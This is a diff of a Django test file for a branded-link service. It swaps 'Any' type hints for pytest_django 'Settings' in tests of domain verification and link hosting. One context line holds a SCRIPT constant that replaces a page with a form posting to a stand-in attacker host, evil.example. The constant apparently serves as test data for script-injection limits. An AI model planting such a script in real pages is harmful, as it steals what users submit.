@@ -7,6 +7,7 @@ from typing import Any
 
 import pytest
 from django.test import Client
+from pytest_django import Settings
 
 from accounts.models import Account, Purpose, User
 from accounts.services import account_brand_set
@@ -23,7 +24,7 @@ SCRIPT = "<script>document.body.innerHTML='<form action=https://evil.example/ste
 
 
 @pytest.fixture(autouse=True)
-def hosts(account: Account, settings: Any, fresh_links: None) -> None:
+def hosts(account: Account, settings: Settings, fresh_links: None) -> None:
     settings.BASE_URL, settings.LINK_DOMAIN, settings.CLICKMETER_HOSTS = f"https://{BASE}", SHARED, (API,)
     account_brand_set(account=account, host=BRAND, name="Agency")
     verify_host(account, BRAND, Purpose.BRAND)
@@ -73,7 +74,7 @@ def test_a_link_of_a_verified_domain_does_not_exist_on_other_hosts(host: str, al
     assert Browser().open(f"/l/{alias}", host=host).status == 404
 
 
-def test_without_a_shared_link_domain_no_content_of_accounts_is_shown(settings: Any) -> None:
+def test_without_a_shared_link_domain_no_content_of_accounts_is_shown(settings: Settings) -> None:
     settings.LINK_DOMAIN = ""
     get_system_domain()
     refresh_caches()
@@ -86,7 +87,7 @@ def test_a_hidden_destination_can_be_obfuscated(account: Account) -> None:
     assert b"shop.test" not in Browser().open("/coded", host=SHARED).body
 
 
-def test_the_editor_says_what_each_domain_allows(alice: User, client: Client, settings: Any) -> None:
+def test_the_editor_says_what_each_domain_allows(alice: User, client: Client, settings: Settings) -> None:
     client.force_login(alice)
     page = client.get("/links/new").content.decode()
     assert f"On {OWN}, retargeting scripts and hidden destinations work without restrictions." in page
